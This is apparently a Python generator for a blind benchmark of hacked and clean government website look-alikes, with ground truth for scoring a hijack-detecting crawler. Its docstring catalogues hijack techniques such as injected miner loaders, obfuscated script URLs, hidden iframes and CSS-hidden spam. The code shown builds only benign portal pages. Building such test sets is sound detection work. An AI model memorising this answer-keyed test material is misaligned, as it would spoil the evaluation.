"""Blind hijack set, round 7: hacked sites and clean look-alikes, written from how such
sites and hacks look in the wild, before any scan; the truth below was fixed before the
crawler ran on them.

Hacked: whole-page defacements (English, Indonesian, Turkish and Chinese defacers'
pages, one keeping the site's own title); a crypto miner loaded by an injected script
(CoinIMP's loader and its start-up code); an injected script whose only sign is a
remote ``src`` on an unknown CDN (what a crawler can see: nothing but a script tag, the
same as an analytics tag; the truth says so: not seen, healthy); a script URL built
by ``String.fromCharCode`` and appended by ``createElement``; a 1x1 iframe to a
gambling site; hidden spam by ``font-size:0``, a colour equal to its footer's
background, ``text-indent:-9999px``, ``height:0;overflow:hidden``, ``clip:rect(0 0 0
0)``, ``opacity:0``; links in a ``<marquee>`` of height 1; a news list whose newest
items are SEO spam articles (娱乐城, 时时彩, 代开发票, 办证) among real ones; 代开发票 /
办证 / 枪支 spam (no gambling) in a Chinese site's link box; a hacked subdirectory
(``/news/``) behind a homepage box whose titles look harmless; Korean and Japanese
gambling and adult spam on English sites.

Clean traps: a police bureau's 打击电信诈骗 / 扫黄打非 news; a tax bureau's 发票查验 and
代开发票 services; a sports bureau's 足球彩票 sales rules; a site with logo image
replacement by ``text-indent:-9999px`` and a skip link at ``left:-9999px``; an
accessibility (适老化) site that uses ``font-size:0`` to close inline-block gaps; an
English council using a visually-hidden class, collapsed accordions
(``height:0;overflow:hidden``) with links to other government sites and faded
carousel slides.
"""

from __future__ import annotations

import datetime as dt
import random
from dataclasses import dataclass, field

NOW = dt.datetime(2026, 11, 20, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=8)))
TODAY = NOW.date()

HIJACK_CODES = ("spam_content", "hidden_links", "offsite_redirect", "cloaking")
ZOMBIE_CODES = ("placeholder_page", "default_server_page", "parked_domain")
NOT_HIJACKED = (*HIJACK_CODES, *ZOMBIE_CODES)


def ago(days: int) -> dt.date:
    return TODAY - dt.timedelta(days=days)


@dataclass
class Column:
    name: str
    slug: str  # its list page is /<slug>/index.html
    ctype: str  # the type an inspector gives it
    items: list[tuple[str, dt.date]]
    empty: bool = False


@dataclass
class Truth:
    """What is right for the site, per depth ('full' and 'home')."""

    status: str  # at depth full
    must: tuple[str, ...] = ()  # findings that must appear (full)
    must_any: tuple[str, ...] = ()  # at least one of these must appear (full)
    must_not: tuple[str, ...] = ()  # findings that must not appear (both depths)
    home_status: str | None = None  # at --depth home when it differs from full
    home_must_any: tuple[str, ...] | None = None  # None: the same as must_any
    columns: list[Column] = field(default_factory=list)  # clean sites: each column's truth
    page_date: dt.date | None = None  # the homepage's newest date, when it has one
    note: str = ""


@dataclass
class BlindSite:
    sid: str
    host: str
    name: str
    pages: dict[str, str]
    truth: Truth
    kind: str = ""


def _ymd(d: dt.date) -> str:
    return d.isoformat()


def _art(slug: str, d: dt.date, n: int) -> str:
    return f"/{slug}/{d:%Y%m}/t{d:%Y%m%d}_{4410000 + n * 37 + d.day}.html"


# --------------------------------------------------------------------------------------
# Chinese government portal (a TRS / 大汉-like county or bureau site)
# --------------------------------------------------------------------------------------

ZH_CSS = """
*{margin:0;padding:0;box-sizing:border-box}
body{font:14px/1.8 "Microsoft YaHei","微软雅黑",SimSun,Arial;color:#333;background:#fff}
a{color:#333;text-decoration:none}a:hover{color:#c00}
ul,li{list-style:none}
.w1200{width:1200px;margin:0 auto}
.topbar{height:36px;line-height:36px;background:#f5f5f5;border-bottom:1px solid #e5e5e5;font-size:12px;color:#666}
.topbar .fl{float:left}.topbar .fr{float:right}.topbar .fr a{margin-left:14px}
.header{height:150px;background:url(/images/head_bg.jpg) no-repeat center top}
.header .logo{float:left;padding-top:30px}
.header .search{float:right;margin-top:56px;border:2px solid #c41e24;height:38px}
.header .search input{width:260px;height:34px;border:0;padding:0 10px}
.header .search button{width:70px;height:34px;border:0;background:#c41e24;color:#fff}
.nav{height:52px;background:#c41e24}
.nav>ul>li{float:left;position:relative;width:133px;text-align:center}
.nav>ul>li>a{display:block;color:#fff;font-size:17px;line-height:52px}
.nav>ul>li .sub{display:none;position:absolute;top:52px;left:0;width:160px;background:#fff;box-shadow:0 3px 8px rgba(0,0,0,.2);z-index:99}
.nav>ul>li:hover .sub{display:block}
.nav .sub a{display:block;line-height:36px;border-bottom:1px dashed #eee}
.slide{float:left;width:580px;height:380px;position:relative;overflow:hidden}
.slide li{position:absolute;left:0;top:0;display:none}.slide li.on{display:block}
.slide li p{position:absolute;bottom:0;width:100%;height:40px;line-height:40px;background:rgba(0,0,0,.5);color:#fff;padding:0 12px}
.box{float:left;width:590px;margin:16px 5px 0;border:1px solid #e3e3e3}
.box .hd{height:42px;line-height:42px;border-bottom:2px solid #c41e24;padding:0 12px}
.box .hd h3{float:left;font-size:18px;color:#c41e24}
.box .hd .more{float:right;font-size:12px;color:#999}
.box ul{padding:8px 12px}
.box li{height:34px;line-height:34px;overflow:hidden;background:url(/images/dot.gif) no-repeat 0 center;padding-left:10px}
.box li a{float:left;width:440px;overflow:hidden;white-space:nowrap;text-overflow:ellipsis}
.box li span{float:right;color:#999}
.tabs .tt span{float:left;padding:0 16px;cursor:pointer}.tabs .tt span.on{background:#c41e24;color:#fff}
.fw{clear:both;padding-top:20px}.fw h4{font-size:18px;color:#c41e24;border-bottom:2px solid #c41e24}
.fw .grid a{float:left;width:12.5%;text-align:center;padding:14px 0}
.zt img{width:285px;height:80px;margin:10px 5px 0 0}
.dept{clear:both;padding:16px 0}.dept dl{float:left;width:100%}.dept dt{font-weight:bold}
.dept dd a{display:inline-block;width:150px;line-height:30px}
.links{clear:both;padding:16px 0;border-top:1px solid #ddd}.links select{width:230px;height:32px;margin-right:12px}
.footer{clear:both;background:#F2F2F2;border-top:3px solid #c41e24;padding:24px 0;text-align:center;color:#666;font-size:13px;line-height:2}
.footer a{color:#666}
.clearfix:after{content:"";display:block;clear:both}
"""

ZH_STATS = """<script type="text/javascript">
var _hmt = _hmt || [];
(function() {
  var hm = document.createElement("script");
  hm.src = "https://hm.baidu.com/hm.js?5f1e3c1b2a0c4d8e9f7a6b5c4d3e2f1a";
  var s = document.getElementsByTagName("script")[0];
  s.parentNode.insertBefore(hm, s);
})();
</script>"""

ZH_TAB_JS = """<script type="text/javascript">
$(function(){
  $(".tabs .tt span").mouseover(function(){
    var i=$(this).index();$(this).addClass("on").siblings().removeClass("on");
    $(this).parents(".tabs").find(".bd ul").eq(i).show().siblings().hide();
  });
  var n=0,len=$(".slide li").length;setInterval(function(){n=(n+1)%len;$(".slide li").eq(n).addClass("on").siblings().removeClass("on");},5000);
});
</script>"""

ZH_MENU = [
    ("首页", "/", []),
    (
        "政务公开",
        "/zwgk/",
        [
            "政府信息公开指南",
            "政府信息公开制度",
            "法定主动公开内容",
            "政府信息公开年报",
            "依申请公开",
            "政策文件",
            "政策解读",
        ],
    ),
    (
        "新闻中心",
        "/xwzx/",
        ["工作动态", "部门动态", "乡镇动态", "图片新闻", "视频新闻", "媒体关注"],
    ),
    ("政务服务", "/zwfw/", ["个人办事", "法人办事", "办事指南", "表格下载", "便民服务", "好差评"]),
    (
        "政民互动",
        "/zmhd/",
        ["县长信箱", "咨询投诉", "在线访谈", "征集调查", "常见问题", "12345热线"],
    ),
    ("走进本地", "/zjbd/", ["概况", "历史沿革", "行政区划", "旅游资源", "特色产业", "人口民族"]),
    (
        "专题专栏",
        "/ztzl/",
        ["优化营商环境", "乡村振兴", "安全生产", "扫黑除恶", "文明创建", "法治政府"],
    ),
]

ZH_SERVICES = [
    "生育收养",
    "户籍办理",
    "民族宗教",
    "教育科研",
    "入伍服役",
    "就业创业",
    "设立变更",
    "准营准办",
    "抵押质押",
    "职业资格",
    "行政缴费",
    "婚姻登记",
    "优待抚恤",
    "规划建设",
    "住房保障",
    "社会保障",
    "证件办理",
    "交通出行",
    "旅游观光",
    "出境入境",
    "消费维权",
    "公共安全",
    "司法公证",
    "知识产权",
    "环保绿化",
    "文化体育",
    "公用事业",
    "医疗卫生",
    "离职退休",
    "死亡殡葬",
    "年检年审",
    "税收财务",
    "人力资源",
    "投资审批",
    "融资信贷",
    "资质认证",
    "农林牧渔",
    "商务贸易",
    "安全生产",
    "检验检疫",
]

ZH_ZT = [
    "学习贯彻党的二十届四中全会精神",
    "深化作风建设",
    "优化营商环境",
    "乡村振兴",
    "安全生产月",
    "清廉建设",
    "法治政府建设示范创建",
    "全国文明城市创建",
    "河湖长制",
    "森林防灭火",
]

ZH_TOWNS = [
    "城关镇",
    "石桥镇",
    "龙门镇",
    "清溪镇",
    "白沙镇",
    "东岭乡",
    "西山乡",
    "南埔镇",
    "北溪镇",
    "桃源乡",
    "长坑乡",
    "湖头镇",
    "官桥镇",
    "金谷镇",
    "蓬莱镇",
    "剑斗镇",
    "感德镇",
    "西坪镇",
    "虎邱镇",
    "大坪乡",
]
ZH_DEPTS = [
    "发展和改革局",
    "教育局",
    "科学技术局",
    "工业和信息化局",
    "公安局",
    "民政局",
    "司法局",
    "财政局",
    "人力资源和社会保障局",
    "自然资源局",
    "生态环境分局",
    "住房和城乡建设局",
    "交通运输局",
    "水利局",
    "农业农村局",
    "商务局",
    "文化和旅游局",
    "卫生健康局",
    "退役军人事务局",
    "应急管理局",
    "审计局",
    "市场监督管理局",
    "统计局",
    "医疗保障局",
    "林业局",
    "信访局",
    "数据管理局",
]


def zh_box(col: Column, show: int = 8, extra_cls: str = "") -> str:
    if col.empty or not col.items:
        body = '<li class="nodata">暂无信息</li>'
    else:
        body = "\n".join(
            f'<li><a href="{_art(col.slug, d, i)}" title="{t}" target="_blank">{t}</a><span>{_ymd(d)}</span></li>'
            for i, (t, d) in enumerate(col.items[:show])
        )
    return (
        f'<div class="box {extra_cls}"><div class="hd"><h3>{col.name}</h3>'
        f'<a class="more" href="/{col.slug}/index.html" target="_blank">更多&gt;&gt;</a></div>\n<ul>\n{body}\n</ul></div>'
    )


def zh_menu() -> str:
    out = ['<div class="nav"><ul class="w1200 clearfix">']
    for label, href, subs in ZH_MENU:
        sub = "".join(f'<a href="{href}{i + 1:02d}/">{s}</a>' for i, s in enumerate(subs))
        out.append(
            f'<li><a href="{href}">{label}</a>'
            + (f'<div class="sub">{sub}</div>' if sub else "")
            + "</li>"
        )
    out.append("</ul></div>")
    return "\n".join(out)


def zh_services() -> str:
    grid = "".join(
        f'<a href="/zwfw/grbs/{i:03d}/" target="_blank"><i class="ico ico{i}"></i><em>{s}</em></a>'
        for i, s in enumerate(ZH_SERVICES)
    )
    return f'<div class="fw clearfix"><h4>政务服务</h4><div class="grid">{grid}</div></div>'


def zh_zt() -> str:
    imgs = "".join(
        f'<a href="/ztzl/zt{i:02d}/index.html" target="_blank"><img src="/images/zt{i:02d}.jpg" alt="{t}"></a>'
        for i, t in enumerate(ZH_ZT)
    )
    return f'<div class="zt clearfix"><h4>专题专栏</h4>{imgs}</div>'


def zh_directory(county: str) -> str:
    towns = "".join(
        f'<a href="/zjbd/xzqh/{i:02d}/" target="_blank">{t}</a>' for i, t in enumerate(ZH_TOWNS)
    )
    depts = "".join(
        f'<a href="/zwgk/bmxxgk/{i:02d}/" target="_blank">{county}{d}</a>'
        for i, d in enumerate(ZH_DEPTS)
    )
    return f'<div class="dept clearfix"><dl><dt>乡镇信息公开</dt><dd>{towns}</dd></dl><dl><dt>部门信息公开</dt><dd>{depts}</dd></dl></div>'


def zh_friends() -> str:
    sel = [
        (
            "国务院部门网站",
            [
                ("中国政府网", "https://www.gov.cn/"),
                ("国家发展和改革委员会", "https://www.ndrc.gov.cn/"),
                ("教育部", "http://www.moe.gov.cn/"),
                ("财政部", "http://www.mof.gov.cn/"),
            ],
        ),
        (
            "省级政府网站",
            [
                ("北京市人民政府", "https://www.beijing.gov.cn/"),
                ("福建省人民政府", "https://www.fujian.gov.cn/"),
                ("浙江省人民政府", "https://www.zj.gov.cn/"),
            ],
        ),
        (
            "市县政府网站",
            [
                ("市人民政府", "http://www.shi-demo.gov.cn/"),
                ("邻县人民政府", "http://www.linxian-demo.gov.cn/"),
            ],
        ),
    ]
    out = ['<div class="links w1200"><span>相关链接：</span>']
    for label, opts in sel:
        o = "".join(f'<option value="{u}">{n}</option>' for n, u in opts)
        out.append(
            f'<select onchange="if(this.value)window.open(this.value)"><option value="">{label}</option>{o}</select>'
        )
    out.append("</div>")
    return "".join(out)


def zh_footer(name: str, code: str, icp: str, police: str, extra: str = "") -> str:
    return f"""<div class="footer">
<div class="w1200">
<p><a href="/wzdt/">网站地图</a> | <a href="/lxwm/">联系我们</a> | <a href="/sybz/">使用帮助</a> | <a href="/flsm/">法律声明</a></p>
<p>主办：{name}　承办：{name}办公室　网站标识码：{code}</p>
<p><a href="https://beian.miit.gov.cn/" target="_blank">{icp}</a>　<a href="http://www.beian.gov.cn/portal/registerSystemInfo?recordcode={police[-14:]}" target="_blank"><img src="/images/ga.png" alt="">{police}</a></p>
<p>地址：县行政服务中心大楼　邮编：362400　联系电话：0595-23880000　建议使用1366*768分辨率及以上浏览器浏览</p>
<p>Copyright © 2015-2026 All Rights Reserved</p>
{extra}
<span id="_ideConac"><a href="https://bszs.conac.cn/sitename?method=show&amp;id=0B1A2C3D4E5F" target="_blank"><img src="/images/red.png" alt="党政机关"></a></span>
<script id="_jiucuo_" sitecode="{code}" src="https://zfwzgl.www.gov.cn/exposure/jiucuo.js"></script>
</div></div>"""


def zh_portal(
    name: str,
    cols: list[Column],
    *,
    title: str | None = None,
    code: str = "3505240001",
    icp: str = "闽ICP备05012345号-1",
    police: str = "闽公网安备 35052402000123号",
    head_extra: str = "",
    body_top: str = "",
    mid_extra: str = "",
    footer_extra: str = "",
    body_end: str = "",
    css_extra: str = "",
    logo: str = "",
    topbar_extra: str = "",
) -> str:
    title = title or name
    logo = (
        logo or f'<div class="logo"><a href="/"><img src="/images/logo.png" alt="{name}"></a></div>'
    )
    slides = "".join(
        f'<li{" class=on" if i == 0 else ""}><a href="{_art(cols[0].slug, d, i)}" target="_blank">'
        f'<img src="/images/slide{i}.jpg" alt="{t}" width="580" height="380"></a><p>{t}</p></li>'
        for i, (t, d) in enumerate(cols[0].items[:4])
    )
    boxes = "\n".join(zh_box(c) for c in cols)
    return f"""<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta http-equiv="X-UA-Compatible" content="IE=edge">
<meta name="renderer" content="webkit">
<title>{title}</title>
<meta name="SiteName" content="{name}">
<meta name="SiteDomain" content="">
<meta name="SiteIDCode" content="{code}">
<meta name="ColumnName" content="首页">
<meta name="ColumnType" content="首页">
<meta name="keywords" content="{name},政务公开,政务服务,政民互动">
<meta name="description" content="{name}门户网站">
<link rel="stylesheet" href="/css/common.css">
<style type="text/css">{ZH_CSS}{css_extra}</style>
<script type="text/javascript" src="/js/jquery-1.12.4.min.js"></script>
{head_extra}
</head>
<body>
{body_top}
<div class="topbar"><div class="w1200 clearfix"><div class="fl">欢迎访问{name}门户网站！</div>
<div class="fr"><a href="javascript:void(0)" id="cniil_wza">无障碍浏览</a><a href="/zwgk/">政务公开</a><a href="https://m.example-app.cn/" target="_blank">移动版</a><a href="/wzdt/">网站地图</a>{topbar_extra}</div></div></div>
<div class="header"><div class="w1200 clearfix">{logo}
<form class="search" action="/search/" method="get"><input type="text" name="q" placeholder="请输入关键词"><button type="submit">搜索</button></form></div></div>
{zh_menu()}
<div class="w1200 clearfix main" id="main">
<div class="slide"><ul>{slides}</ul></div>
{boxes}
{mid_extra}
{zh_services()}
{zh_zt()}
{zh_directory(name.replace("人民政府", ""))}
</div>
{zh_friends()}
{zh_footer(name, code, icp, police, footer_extra)}
{ZH_TAB_JS}
{ZH_STATS}
{body_end}
</body>
</html>
"""


def zh_list_page(name: str, col: Column, extra_body: str = "") -> str:
    if col.empty or not col.items:
        lis = '<li class="nodata">暂无信息</li>'
    else:
        lis = "\n".join(
            f'<li><a href="{_art(col.slug, d, i)}" target="_blank" title="{t}">{t}</a><span class="date">{_ymd(d)}</span></li>'
            for i, (t, d) in enumerate(col.items)
        )
    return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{col.name}-{name}</title>
<meta name="ColumnName" content="{col.name}"><style>{ZH_CSS}</style></head><body>
<div class="header"><div class="w1200"><a href="/"><img src="/images/logo.png" alt="{name}"></a></div></div>
{zh_menu()}
<div class="w1200 clearfix"><div class="crumb">当前位置：<a href="/">首页</a> &gt; <a href="/{col.slug}/index.html">{col.name}</a></div>
<div class="left"><h2>{col.name}</h2></div>
<div class="right listpage"><ul class="list">
{lis}
</ul>
<div class="page"><script>createPageHTML(1, 0, "index", "html");</script></div>
{extra_body}
</div></div>
{zh_footer(name, "3505240001", "闽ICP备05012345号-1", "闽公网安备 35052402000123号")}
</body></html>
"""


def zh_article(name: str, col: Column, t: str, d: dt.date) -> str:
    return f"""<!DOCTYPE html><html lang="zh-CN"><head><meta charset="utf-8"><title>{t}-{name}</title>
<meta name="ArticleTitle" content="{t}"><meta name="PubDate" content="{_ymd(d)} 09:30"></head><body>
<div class="crumb"><a href="/">首页</a> &gt; <a href="/{col.slug}/index.html">{col.name}</a></div>
<h1>{t}</h1><div class="info">发布时间：{_ymd(d)} 09:30　来源：{name}</div>
<div class="content"><p>　　{t}。会议强调，要坚持以人民为中心的发展思想，扎实做好各项工作，确保取得实效。</p></div>
</body></html>"""


def zh_pages(
    name: str, cols: list[Column], home: str, lists: dict[str, str] | None = None
) -> dict[str, str]:
    pages = {"/": home}
    for c in cols:
        pages[f"/{c.slug}/index.html"] = (lists or {}).get(c.slug) or zh_list_page(name, c)
        for i, (t, d) in enumerate(c.items):
            pages[_art(c.slug, d, i)] = zh_article(name, c, t, d)
    return pages


ZH_NEWS_POOL = [
    "县委常委会召开会议传达学习全会精神",
    "县政府召开第四十二次常务会议",
    "我县召开秋冬季森林防灭火工作部署会",
    "县领导督导检查安全生产工作",
    "全县优化营商环境工作推进会召开",
    "我县举行2026年重点项目集中开工仪式",
    "县人大常委会调研乡村振兴工作",
    "我县开展“119”消防宣传月活动",
    "县政府与省农科院签订战略合作协议",
    "全县冬季征兵工作动员部署会召开",
    "我县召开耕地保护工作会议",
    "县领导带队开展防汛防台风检查",
    "我县举办第五届农民丰收节",
    "全县河湖长制工作会议召开",
    "我县开展食品安全进校园宣传活动",
    "县政协召开专题协商会",
    "我县全力推进城市更新项目建设",
    "县委理论学习中心组开展专题学习",
]
ZH_NOTICE_POOL = [
    "关于2026年度县级机关公开遴选公务员拟遴选人员的公示",
    "关于开展2026年度“双随机、一公开”抽查工作的通知",
    "关于做好2026年冬季取暖安全工作的通知",
    "关于征集2027年县政府为民办实事项目的公告",
    "关于城区部分路段临时交通管制的通告",
    "关于2026年县级预算单位政府采购意向的公示",
    "关于开展城乡居民医保集中参保缴费的通告",
    "关于公布第二批县级非物质文化遗产代表性项目名录的通知",
]
ZH_POLICY_POOL = [
    "县人民政府关于印发《县全面推进城镇老旧小区改造工作实施方案》的通知",
    "县人民政府办公室关于进一步加强耕地保护的实施意见",
    "县人民政府关于印发加快推进数字经济发展若干措施的通知",
    "县人民政府办公室关于印发县级储备粮管理办法的通知",
    "县人民政府关于调整县城市规划区集体土地征收补偿标准的通知",
    "县人民政府办公室关于推进养老服务高质量发展的实施意见",
]


def zh_std_cols(rng: random.Random, prefix: str = "") -> list[Column]:
    news = rng.sample(ZH_NEWS_POOL, 10)
    nd = sorted(rng.sample(range(0, 30), 10))
    notices = rng.sample(ZH_NOTICE_POOL, 7)
    cd = sorted(rng.sample(range(2, 90), 7))
    pol = rng.sample(ZH_POLICY_POOL, 6)
    pd = sorted(rng.sample(range(10, 200), 6))
    return [
        Column(
            "工作动态",
            f"{prefix}xwzx/gzdt",
            "news",
            [(prefix + t if prefix else t, ago(d)) for t, d in zip(news, nd, strict=True)],
        ),
        Column(
            "通知公告",
            f"{prefix}zwgk/tzgg",
            "notice",
            [(t, ago(d)) for t, d in zip(notices, cd, strict=True)],
        ),
        Column(
            "政策文件",
            f"{prefix}zwgk/zcwj",
            "policy",
            [(t, ago(d)) for t, d in zip(pol, pd, strict=True)],
        ),
    ]


# --------------------------------------------------------------------------------------
# English local government site (a Drupal / CivicPlus-like council or district site)
# --------------------------------------------------------------------------------------

EN_CSS = """
body{margin:0;font-family:"Source Sans Pro",Helvetica,Arial,sans-serif;color:#1d1d1d;background:#fff;line-height:1.55}
a{color:#005ea5}.container{max-width:1180px;margin:0 auto;padding:0 20px}
.site-header{background:#0b3d5c;color:#fff}.site-header a{color:#fff}
.utility{font-size:.85rem;text-align:right;padding:6px 0}
.main-nav ul{list-style:none;margin:0;padding:0;display:flex}.main-nav li{position:relative}
.main-nav .dropdown{display:none;position:absolute;background:#fff;min-width:240px;box-shadow:0 4px 12px rgba(0,0,0,.2)}
.main-nav li:hover .dropdown{display:block}.main-nav .dropdown a{color:#0b3d5c;display:block;padding:8px 14px}
.hero{background:#e8f1f7;padding:40px 0}.cards{display:grid;grid-template-columns:repeat(3,1fr);gap:20px}
.card{border:1px solid #d8dde3;padding:16px}.card time{color:#555;font-size:.9rem}
.notices li{padding:6px 0;border-bottom:1px solid #eee}
.site-footer{background:#1d2b36;color:#cfd8df;padding:30px 0;font-size:.9rem}.site-footer a{color:#cfd8df}
.quick-links a{display:inline-block;width:24%;padding:10px 0}
"""

EN_MENU = [
    (
        "Residents",
        [
            "Bins and recycling",
            "Council Tax",
            "Parking permits",
            "Libraries",
            "Parks and open spaces",
            "Registering a birth",
            "Adult social care",
            "Schools and admissions",
        ],
    ),
    (
        "Business",
        [
            "Business rates",
            "Licensing",
            "Food safety",
            "Trading standards",
            "Tenders and contracts",
            "Markets and street trading",
        ],
    ),
    (
        "Planning",
        [
            "Search planning applications",
            "Comment on an application",
            "Local Plan",
            "Building control",
            "Conservation areas",
            "Tree preservation orders",
        ],
    ),
    (
        "Your Council",
        [
            "Councillors",
            "Committee meetings",
            "Budgets and spending",
            "Elections and voting",
            "Freedom of information",
            "Jobs and careers",
            "Complaints",
        ],
    ),
]

EN_QUICK = [
    "Pay for it",
    "Report it",
    "Apply for it",
    "Find my bin day",
    "Council Tax bands",
    "Request a bulky waste collection",
    "Report a pothole",
    "Report fly-tipping",
    "Apply for a parking permit",
    "Housing benefit",
    "Find a school",
    "Library catalogue",
    "Register to vote",
    "Planning search",
    "Book a ceremony",
    "Pay a parking fine",
]


EN_AZ = [
    "Abandoned vehicles",
    "Adoption",
    "Adult education",
    "Air quality",
    "Allotments",
    "Animal licensing",
    "Anti-social behaviour",
    "Apprenticeships",
    "Archives",
    "Arts grants",
    "Asbestos",
    "Assisted bin collections",
    "Benefits",
    "Bereavement services",
    "Bonfires",
    "Building control",
    "Bulky waste",
    "Bus passes",
    "Business grants",
    "Business rates",
    "Car parks",
    "Care homes",
    "Cemeteries",
    "Child protection",
    "Childcare",
    "Civil partnerships",
    "Climate emergency",
    "Community centres",
    "Community safety",
    "Compost bins",
    "Consultations",
    "Contaminated land",
    "Council meetings",
    "Council Tax",
    "Councillors",
    "Crematorium",
    "Dangerous structures",
    "Data protection",
    "Dog fouling",
    "Dropped kerbs",
    "Elections",
    "Electoral register",
    "Empty homes",
    "Environmental health",
    "Equality",
    "Events",
    "Fly-tipping",
    "Food hygiene ratings",
    "Footpaths",
    "Freedom of information",
    "Garden waste",
    "Graffiti",
    "Grit bins",
    "Gypsy and traveller sites",
    "Health and safety",
    "Highways",
    "Homelessness",
    "Housing advice",
    "Housing benefit",
    "Housing register",
    "Jobs",
    "Leisure centres",
    "Libraries",
    "Licensing",
    "Litter",
    "Local Plan",
    "Markets",
    "Marriages",
    "Museums",
    "Noise",
    "Parking fines",
    "Parking permits",
    "Parks",
    "Pest control",
    "Planning applications",
    "Planning enforcement",
    "Playgrounds",
    "Potholes",
    "Private sector housing",
    "Public toilets",
    "Recycling",
    "Registering a death",
    "Road closures",
    "School admissions",
    "School transport",
    "Skips",
    "Small business rate relief",
    "Social care",
    "Street cleaning",
    "Street lighting",
    "Street naming",
    "Taxi licensing",
    "Tenancy",
    "Trees",
    "Tourism",
    "Trading standards",
    "Volunteering",
    "Voter ID",
    "Waste collection",
    "Weddings",
    "Youth services",
]


def en_az() -> str:
    lis = "".join(f'<li><a href="/a-z/{t.lower().replace(" ", "-")}">{t}</a></li>' for t in EN_AZ)
    letters = "".join(f'<a href="/a-z#{c}">{c}</a> ' for c in "ABCDEFGHIJKLMNOPQRSTUVWYZ")
    return f'<section class="a-z"><h2>A to Z of services</h2><nav class="letters">{letters}</nav><ul class="a-z-list">{lis}</ul></section>'


def en_events() -> str:
    ev = [
        ("Christmas lights switch-on", 8),
        ("Farmers' market", 9),
        ("Carol concert at the Civic Hall", 22),
        ("Family fun day at the leisure centre", 30),
        ("Planning committee", 12),
        ("Full council meeting", 19),
    ]
    lis = "".join(
        f'<li class="event"><div class="event-date"><span class="day">{(TODAY + dt.timedelta(days=n)).day}</span>'
        f'<span class="month">{(TODAY + dt.timedelta(days=n)):%b}</span></div><a href="/events/{i}">{t}</a>'
        f"<p>10:00am to 4:00pm, Civic Centre. Free entry, all welcome. Accessible venue with hearing loop.</p></li>"
        for i, (t, n) in enumerate(ev)
    )
    return f'<section class="events"><h2>Upcoming events</h2><ul>{lis}</ul><a href="/events">All events</a></section>'


def _en_date(d: dt.date) -> str:
    return f"{d.day} {d:%B %Y}"


def _en_url(slug: str, d: dt.date, title: str) -> str:
    s = "".join(ch if ch.isalnum() else "-" for ch in title.lower()).strip("-")
    while "--" in s:
        s = s.replace("--", "-")
    return f"/{slug}/{s[:60]}"


def en_menu() -> str:
    out = ['<nav class="main-nav" aria-label="Main"><ul>']
    for label, subs in EN_MENU:
        base = "/" + label.lower().replace(" ", "-")
        sub = "".join(
            f'<li><a href="{base}/{s.lower().replace(" ", "-")}">{s}</a></li>' for s in subs
        )
        out.append(f'<li><a href="{base}">{label}</a><ul class="dropdown">{sub}</ul></li>')
    out.append("</ul></nav>")
    return "".join(out)


def en_news_cards(col: Column, show: int = 6) -> str:
    cards = "\n".join(
        f'<article class="card"><img src="/sites/default/files/styles/card/public/news/{i}.jpg" alt="">'
        f'<h3><a href="{_en_url(col.slug, d, t)}">{t}</a></h3><time datetime="{_ymd(d)}">{_en_date(d)}</time>'
        f"<p>Read more about {t.lower()}.</p></article>"
        for i, (t, d) in enumerate(col.items[:show])
    )
    return (
        f'<section class="news" aria-labelledby="h-{col.slug}"><h2 id="h-{col.slug}">{col.name}</h2>'
        f'<div class="cards">{cards}</div><p><a class="more" href="/{col.slug}">View all {col.name.lower()}</a></p></section>'
    )


def en_notice_list(col: Column, show: int = 6) -> str:
    lis = "\n".join(
        f'<li><a href="{_en_url(col.slug, d, t)}">{t}</a> <span class="date">{_en_date(d)}</span></li>'
        for t, d in col.items[:show]
    )
    return (
        f'<section class="notices"><h2>{col.name}</h2><ul>{lis}</ul>'
        f'<p><a class="more" href="/{col.slug}">More {col.name.lower()}</a></p></section>'
    )


def en_portal(
    name: str,
    cols: list[Column],
    *,
    title: str | None = None,
    head_extra: str = "",
    body_top: str = "",
    mid_extra: str = "",
    footer_extra: str = "",
    body_end: str = "",
    css_extra: str = "",
) -> str:
    title = title or f"Home | {name}"
    quick = "".join(f'<a href="/services/{q.lower().replace(" ", "-")}">{q}</a>' for q in EN_QUICK)
    sections = []
    for i, c in enumerate(cols):
        sections.append(en_news_cards(c) if i == 0 else en_notice_list(c))
    return f"""<!DOCTYPE html>
<html lang="en-GB" dir="ltr">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>{title}</title>
<meta name="description" content="Official website of {name}: council services, news, planning, bins, council tax and more.">
<link rel="canonical" href="/">
<link rel="stylesheet" media="all" href="/sites/default/files/css/css_a1b2c3.css">
<style>{EN_CSS}{css_extra}</style>
<script>window.dataLayer=window.dataLayer||[];function gtag(){{dataLayer.push(arguments);}}gtag('js',new Date());gtag('config','G-7XK2M4P9QZ');</script>
<script async src="https://www.googletagmanager.com/gtag/js?id=G-7XK2M4P9QZ"></script>
{head_extra}
</head>
<body class="path-frontpage">
{body_top}
<a href="#main-content" class="visually-hidden focusable skip-link">Skip to main content</a>
<header class="site-header"><div class="container">
<div class="utility"><a href="/accessibility">Accessibility</a> | <a href="/contact-us">Contact us</a> | <a href="/user/login">My account</a></div>
<a href="/" class="logo" rel="home"><img src="/themes/custom/council/logo.svg" alt="{name} home"></a>
<form action="/search" method="get" role="search"><label for="q">Search</label><input id="q" name="keys" type="search"><button>Search</button></form>
{en_menu()}
</div></header>
<main id="main-content" class="container">
<section class="hero"><h1>Welcome to {name}</h1><p>Find information and services, pay bills, report problems and apply online.</p></section>
<section class="quick-links"><h2>Popular services</h2>{quick}</section>
{"".join(sections)}
{mid_extra}
{en_events()}
{en_az()}
</main>
<footer class="site-footer"><div class="container">
<p>{name}, Civic Centre, High Street. Telephone 01632 960 000. Open Monday to Friday, 9am to 5pm.</p>
<ul class="footer-links"><li><a href="/privacy">Privacy notice</a></li><li><a href="/cookies">Cookies</a></li><li><a href="/accessibility-statement">Accessibility statement</a></li><li><a href="/modern-slavery">Modern slavery statement</a></li></ul>
<p>Follow us: <a href="https://www.facebook.com/examplecouncil">Facebook</a> <a href="https://twitter.com/examplecouncil">X</a> <a href="https://www.youtube.com/@examplecouncil">YouTube</a></p>
{footer_extra}
<p>&copy; {name} 2026</p>
</div></footer>
<div id="cookie-banner" class="cookie-banner" role="dialog"><p>We use cookies to make this site work and to collect anonymous analytics.</p><button>Accept</button><button>Reject</button></div>
{body_end}
</body>
</html>
"""


def en_list_page(name: str, col: Column) -> str:
    lis = "\n".join(
        f'<li class="views-row"><h3><a href="{_en_url(col.slug, d, t)}">{t}</a></h3>'
        f'<time datetime="{_ymd(d)}">{_en_date(d)}</time></li>'
        for t, d in col.items
    )
